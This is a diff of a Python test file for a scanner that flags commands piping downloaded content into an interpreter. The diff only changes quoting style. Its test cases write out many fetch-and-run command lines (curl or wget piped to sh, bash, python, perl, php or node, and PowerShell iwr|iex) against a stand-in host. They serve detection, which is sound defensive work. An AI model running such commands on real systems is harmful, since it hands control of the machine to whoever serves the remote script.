@@ -51,24 +51,24 @@ def run(command: str, more: str = "") -> list[str]:
         ("wget -q -O - https://e.org/x | sh", [f"[sh] `sh` {SENT}"]),
         ("wget --output-document=- https://e.org/x | sh", [f"[sh] `sh` {SENT}"]),
         ("wget https://e.org/x | sh; curl -O https://e.org/x | sh; curl -sSo x https://e.org/x | sh", []),
-        ("curl https://e.org/x | bash -c \"cat\"; curl https://e.org/x | bash script", []),
+        ('curl https://e.org/x | bash -c "cat"; curl https://e.org/x | bash script', []),
         ("curl https://e.org/x | python3; curl https://e.org/x | python - a", [
             f"[python3] `python3` {SENT}", f"[python] `python` {SENT}"]),
-        ("curl https://e.org/x | python -c \"import sys\"; curl https://e.org/x | python a.py", []),
+        ('curl https://e.org/x | python -c "import sys"; curl https://e.org/x | python a.py', []),
         ("curl https://e.org/x | perl - a; curl https://e.org/x | perl -pe 1", [f"[perl] `perl` {SENT}"]),
         ("curl https://e.org/x | php; curl https://e.org/x | php -r 1", [f"[php] `php` {SENT}"]),
         ("curl https://e.org/x | php -- --quiet", [f"[php] `php` {SENT}"]),
         ("curl https://e.org/x | node; curl https://e.org/x | node -e 1 | jq .", [f"[node] `node` {SENT}"]),
-        ("sh -c \"$(curl -fsSL https://e.org/x)\"", ["[\"$(curl -fsSL https://e.org/x)\"] `sh` " + SENT]),
-        ("python -c \"$(curl https://e.org/x)\"", ["[\"$(curl https://e.org/x)\"] `python` " + SENT]),
+        ('sh -c "$(curl -fsSL https://e.org/x)"', ['["$(curl -fsSL https://e.org/x)"] `sh` ' + SENT]),
+        ('python -c "$(curl https://e.org/x)"', ['["$(curl https://e.org/x)"] `python` ' + SENT]),
         ("eval `curl https://e.org/x`", [f"[`curl https://e.org/x`] `eval` {SENT}"]),
         ("bash <(curl https://e.org/x) -y", [f"[<(curl https://e.org/x)] `bash` {SENT}"]),
         ("bash < <(curl https://e.org/x)", [f"[bash] `bash` {SENT}"]),
-        ("bash <<< \"$(curl https://e.org/x)\"", [f"[bash] `bash` {SENT}"]),
+        ('bash <<< "$(curl https://e.org/x)"', [f"[bash] `bash` {SENT}"]),
         ("source <(curl https://e.org/x)", [f"[<(curl https://e.org/x)] `source` {SENT}"]),
-        ("echo \"$(curl https://e.org/x)\"; x=\"$(curl https://e.org/x)\"; bash y \"$x\"", []),
-        ("x=\"$(curl https://e.org/x)\"; echo \"$x\" | bash", [f"[bash] `bash` {SENT}"]),
-        ("ssh host \"curl https://e.org/x | sh\"", [f"[sh] `sh` {SENT}"]),
+        ('echo "$(curl https://e.org/x)"; x="$(curl https://e.org/x)"; bash y "$x"', []),
+        ('x="$(curl https://e.org/x)"; echo "$x" | bash', [f"[bash] `bash` {SENT}"]),
+        ('ssh host "curl https://e.org/x | sh"', [f"[sh] `sh` {SENT}"]),
         ("curl https://puppet:8140/packages/current/install.bash | bash", [
             "possible [bash] `bash` runs what comes from `https://puppet:8140/packages/current/install.bash`, unseen:"
             " whoever changes it there runs commands on this node"]),
@@ -88,7 +88,7 @@ def run(command: str, more: str = "") -> list[str]:
             "likely [/tmp/x] `sh` runs what was fetched from `http://e.org/x`: whoever changes it there"
             " (or on the way: nothing encrypts it) runs commands on this node"]),
         ("curl https://e.org/x | tar x; curl https://e.org/x | apt-key add -; curl https://e.org/x | sudo tee /etc/y", []),
-        ("powershell.exe -Command \"iwr -useb https://e.org/x | iex\"", [f"[iex] `iex` {SENT}"]),
+        ('powershell.exe -Command "iwr -useb https://e.org/x | iex"', [f"[iex] `iex` {SENT}"]),
     ],
 )  # fmt: skip
 def test_commands(command: str, expected: list[str]) -> None:
@@ -100,7 +100,7 @@ def test_commands(command: str, expected: list[str]) -> None:
     [
         ("iwr https://e.org/x -UseBasicParsing | iex", [f"[iex] `iex` {SENT}"]),
         ("Invoke-Expression (Invoke-RestMethod https://e.org/x)", [f"[Invoke-Expression] `Invoke-Expression` {SENT}"]),
-        ("$s = (New-Object Net.WebClient).DownloadString(\"https://e.org/x\"); iex $s", [f"[iex] `iex` {SENT}"]),
+        ('$s = (New-Object Net.WebClient).DownloadString("https://e.org/x"); iex $s', [f"[iex] `iex` {SENT}"]),
         ("& ([scriptblock]::Create((irm https://e.org/x))) -Quiet", [
             f"[[scriptblock]::Create] `[scriptblock]::Create` {SENT}"]),
         ("iwr https://e.org/x -OutFile x.zip; iex $command", []),
